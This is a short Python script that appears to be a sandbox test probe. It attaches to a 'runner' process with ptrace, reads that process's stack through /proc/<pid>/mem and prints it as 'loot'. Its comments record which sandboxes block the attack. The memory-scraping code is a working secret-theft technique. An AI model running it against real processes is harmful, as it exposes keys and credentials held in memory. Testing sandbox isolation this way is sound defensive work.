# Traces the session with ptrace and prints the keys in its memory.
# Seen: a commonplace of malware.
# plain: possible (key read) as root, else blocked
# landlock: blocked
# bubblewrap: blocked
# library: blocked
# Remedy: a sandbox

import contextlib
import ctypes
import os

import outside
from honest import distance

with contextlib.suppress(OSError):
    runner = outside.runner()
    if ctypes.CDLL(None).ptrace(16, runner, 0, 0) == 0:
        os.waitpid(runner, 0x40000000)
        with open(f"/proc/{runner}/maps") as maps, open(f"/proc/{runner}/mem", "rb") as memory:
            for line in maps:
                if "[stack]" in line:
                    begin, end = (int(word, 16) for word in line.split()[0].split("-"))
                    memory.seek(begin)
                    print("loot:", memory.read(end - begin).decode("latin-1")[::-1])
        ctypes.CDLL(None).ptrace(17, runner, 0, 0)
